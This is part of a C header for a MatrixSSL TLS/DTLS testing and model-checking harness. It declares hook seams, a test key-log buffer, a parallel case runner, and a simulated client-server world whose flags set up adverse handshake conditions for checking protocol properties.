/* ENV_OP_MAC_CREATE / ENV_OP_MAC_VERIFY: the TLS <= 1.2 record MAC (tlsHMACSha1 / tlsHMACSha2) is about to be computed:
 * a = MAC key, b = the 8-byte sequence number it will bind (DTLS: epoch + record sequence number) */
enum { ENV_OP_GCM_INIT = 1, ENV_OP_GCM_READY, ENV_OP_GCM_ENC, ENV_OP_CBC_INIT, ENV_OP_CBC_ENC, ENV_OP_CHACHA_INIT, ENV_OP_CHACHA_ENC, ENV_OP_MAC_CREATE, ENV_OP_MAC_VERIFY };
extern void (*env_crypto_hook)(int op, const void *ctx, const unsigned char *a, int alen, const unsigned char *b, unsigned blen);

/* key-log seam (env.c): most recent psHkdfExpandLabel derivations */
#define ENV_KEYLOG_N 128
typedef struct { char label[24]; unsigned char out[64]; int outlen; uint64_t secret_tag; int seq; } env_keylog_t;
extern env_keylog_t env_keylog[ENV_KEYLOG_N];
extern int env_keylog_n;

/* mutex seam (env.c) */
extern void (*env_lock_hook)(void *mutex);
extern void (*env_unlock_hook)(void *mutex);

/* ----------------------------------------------------------------- util.c */
typedef struct { unsigned char *p; size_t len, cap; } buf_t;
void  buf_init(buf_t *b);
void  buf_free(buf_t *b);
void  buf_add(buf_t *b, const void *p, size_t n);
void  buf_addf(buf_t *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
void  buf_clear(buf_t *b);
const char *mx_addr_func(void *addr, char *buf, size_t n); /* function containing a code address (allocation site) */
uint64_t fnv1a(const void *p, size_t n, uint64_t h);
#define FNV0 1469598103934665603ULL
void  hexstr(char *out, const unsigned char *p, size_t n);  /* out needs 2n+1 */
int   unhex(unsigned char *out, const char *s, size_t max);
double now_s(void);                                          /* real monotonic time (harness only) */
void  json_str(FILE *f, const char *s);

/* -------------------------------------------------------------- explore.c */
typedef struct {
    int      violation;      /* 0 ok, 1 property violation, 2 internal/harness error */
    char     key[160];       /* stable violation signature (known-findings key) */
    char     what[320];      /* human readable */
    char     outcome[64];    /* outcome class (histogram / vacuity guard) */
    char     desc[240];      /* replayable case descriptor */
    uint64_t trace_hash;     /* digest of the observable trace */
    uint64_t state_hash;     /* digest of the state reached (0 = none) */
    uint32_t transitions;    /* actions executed in this case */
    uint32_t nontrivial;     /* 1 if non-trivial by the driver's rule */
} mx_result_t;

typedef void (*mx_group_fn)(long group, void *ctx);
typedef void (*mx_case_fn)(void *ctx, mx_result_t *r);

typedef struct {
    const char *property;    /* "C01" */
    const char *tier;        /* quick | thorough */
    const char *level;       /* model_checking | exploration | fault_enumeration */
    const char *engine;
    const char *rule;
    const char *evidence_path;
    const char *replay_dir;
    double      deadline_s;
    int         workers;
    long        seed;
    const char *bound;       /* text: bound completed when not capped */
    const char *assumptions[8];
    int         sanitizer_is_oracle; /* crash/signal of a case child is a violation (C08/C09/C19) */
} mx_cfg_t;

void  mx_init(mx_cfg_t *cfg);
/* run groups [0,ngroups) on the worker pool; returns when done or deadline hit */
void  mx_parallel(long ngroups, mx_group_fn fn, void *ctx);
/* inside a worker: run one case in a forked child (snapshot of current state) */
void  mx_fork_case(const char *desc, mx_case_fn fn, void *ctx);
/* inside a worker: record an in-process case result */
void  mx_record(const mx_result_t *r);
int   mx_deadline_hit(void);
/* after all mx_parallel calls: write evidence, print findings; returns exit code */
int   mx_finish(const char *extra_json /* may be NULL: additional "coverage" members, leading comma excluded */);
void  mx_note_skipped(const char *what);
/* replay support: run fn once in-process and print REPLAY line */
int   mx_replay_print(const mx_result_t *r);
/* per-case watchdog seconds (default 20) */
extern int mx_case_timeout_s;
extern int env_entropy_fail;
extern void (*mx_child_init)(void);
extern void (*mx_on_abnormal)(const char *desc, int status, mx_result_t *r);
/* parse standard driver args; fills cfg; returns replay descriptor or NULL */
const char *mx_parse_args(int argc, char **argv, mx_cfg_t *cfg);

/* ---------------------------------------------------------------- world.c */
enum { V_TLS11 = 1, V_TLS12, V_TLS13, V_DTLS10, V_DTLS12, V_MULTI /* client default: all enabled TLS versions */, V_NVER };
enum { KX_PSK = 0, KX_RSA, KX_ECDHE_RSA, KX_ECDHE_ECDSA, KX_ECDH_ECDSA, KX_ECDH_RSA, KX_13_RSA, KX_13_ECDSA, KX_13_PSK, KX_13_ED25519 };
const char *ver_name(int v);
int32  ver_flag(int v);
int    ver_is_dtls(int v);

typedef struct {
    int      ver;            /* version of both sides (client may be V_MULTI with cver) */
    int      cver;           /* client version config; 0 = same as ver */
    int      kx;
    uint16_t suite;          /* 0 = default for kx/version */
    int      client_auth;    /* server requests+validates client cert */
    int      ocsp;           /* the client asks for a stapled OCSP response (status_request) */
    const char *expected_name; /* the client passes this expected server name to matrixSslNewClientSession */
    int      sni_ext;        /* the client builds a server_name extension for "localhost" with the hello-extension API and passes it */
    int      feed_of_size;   /* every unit is received in two parts: 7 bytes, then the rest into matrixSslGetReadbufOfSize(5000) */
    int      early_data;     /* 1.3 PSK: 1 = credential and server session allow early data; 2 = the credential allows it but the server SESSION disabled it (tls13SessionMaxEarlyData 0) */
    int      resume13;       /* TLS 1.3: world_init first runs a complete connection (server session with early data enabled when early_data != 0) so that the sessions under test resume with its NewSessionTicket */
    int      early_send;     /* the honest client sends one early-data record right after its ClientHello */
    int      dtls_cmulti;    /* DTLS: the client enables DTLS 1.2 and 1.0 (its first flights carry record version fe fd), whatever the server (ver) supports */
    int      tickets;        /* 1: load session ticket keys on server, client asks; 2: the client asks, the server has none */
    int      pmtu;           /* DTLS: 0 default */
    int      bogus_psk;      /* TLS 1.3 certificate modes: the client additionally offers an external PSK the server does not know */
    int      bad_server_cert;/* client CA list does not contain server's issuer */
    int      bad_server_sig; /* the server SENDS its certificate with one signature bit flipped (the issuer is trusted by the client) */
    int      no_cert_cb;     /* register no cert callback (default: strict callback returning alert) */
    int      ems_off;        /* disable extended master secret on client */
    int      ec384;          /* TLS <= 1.2 ECDHE: the client only enables secp384r1 (ecFlags), so the server's ephemeral key is on that curve */
    int      hrr;            /* TLS 1.3: the client offers {P-256, P-384} with a key share for P-256 only, the server supports P-384 only: HelloRetryRequest */
    uint64_t seed;
} wcfg_t;

#define W_MAXREC 256
typedef struct { unsigned char *p; int len; } rec_t;
typedef struct { rec_t r[W_MAXREC]; int head, n; } wire_t;

typedef struct {
    ssl_t     *ssl;
    sslKeys_t *keys;
    int        is_server;
    buf_t      delivered;      /* application bytes handed to the app (concatenated) */
    int        n_deliveries;   /* number of APP_DATA events */
    struct { uint32_t len; uint64_t hash; } dlog[64]; /* first 64 deliveries */
    int        deliv_incomplete; /* APP_DATA events reported while matrixSslHandshakeIsComplete() was false */
    buf_t      submitted;      /* application bytes the app of THIS side submitted */
    int        complete;       /* HANDSHAKE_COMPLETE seen (or IsComplete true at delivery) */
    int        got_alert_lvl, got_alert_desc; /* last alert received */
    int        sent_alert_lvl, sent_alert_desc; /* last plaintext-visible or decoded alert emitted (filled by world_collect for plaintext alerts) */
    int        err_rc;         /* first negative rc from a decode call, 0 if none */
    int        closed;         /* REQUEST_CLOSE seen or close_notify */
    int        last_rc;
    int        cert_cb_calls, cert_cb_alert;
} side_t;

typedef struct {
    wcfg_t  cfg;
    side_t  s[2];              /* 0 client, 1 server */
    wire_t  wire[2];           /* wire[d]: units emitted by side d, not yet delivered to 1-d */
    buf_t   trace;             /* textual event trace (observable) */
    uint32_t actions;
    sslSessionId_t *sid;       /* client session id store (resumption) */
    int     corrupt;           /* library buffer accounting went out of range (inlen < 0 or > insize): detected before the harness would write out of bounds */
    int     no_autocollect;    /* world_feed/app_send/close do not drain output (driver collects itself) */
} world_t;

extern int world_cert_cb_mode;           /* 0 strict (return alert), 1 permissive (return 0) */
int   world_open(void);                    /* matrixSslOpen once per process */
int   world_init(world_t *w, const wcfg_t *cfg);      /* keys + sessions; client hello pending */
int   world_new_sessions(world_t *w);      /* (re)create sessions on existing keys, reusing w->sid */
void  world_free_sessions(world_t *w);
void  world_free(world_t *w);
void  world_collect(world_t *w, int side);            /* drain side's outbuf into wire[side] */
int   world_feed(world_t *w, int side, const unsigned char *p, int len); /* feed raw bytes to side */
int   world_dtls_timeout(world_t *w, int side);        /* DTLS: retransmit last flight */
int   world_deliver(world_t *w, int dir);             /* deliver next unit of wire[dir]; -1 if empty */
int   world_pump(world_t *w, int max_units);          /* honest delivery until quiescent; returns units delivered */
int   world_handshake(world_t *w);                    /* pump until both complete; 0 ok */
int   world_app_send(world_t *w, int side, const unsigned char *p, int len); /* rc of encode */
int   world_encode_probe(world_t *w, int side);       /* try to encode 1 byte; returns rc (>0 ok) */
int   world_close(world_t *w, int side);              /* EncodeClosureAlert */
void  world_wire_push(world_t *w, int dir, const unsigned char *p, int len);
rec_t world_wire_pop(world_t *w, int dir);
void  world_wire_clear(world_t *w, int dir);
uint64_t world_trace_hash(const world_t *w);
void  world_tracef(world_t *w, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
int   world_is_complete(world_t *w, int side);
const char *kx_name(int kx);
int   cfg_supported(const wcfg_t *c);
void  cfg_desc(const wcfg_t *c, char *out, size_t n);

#endif
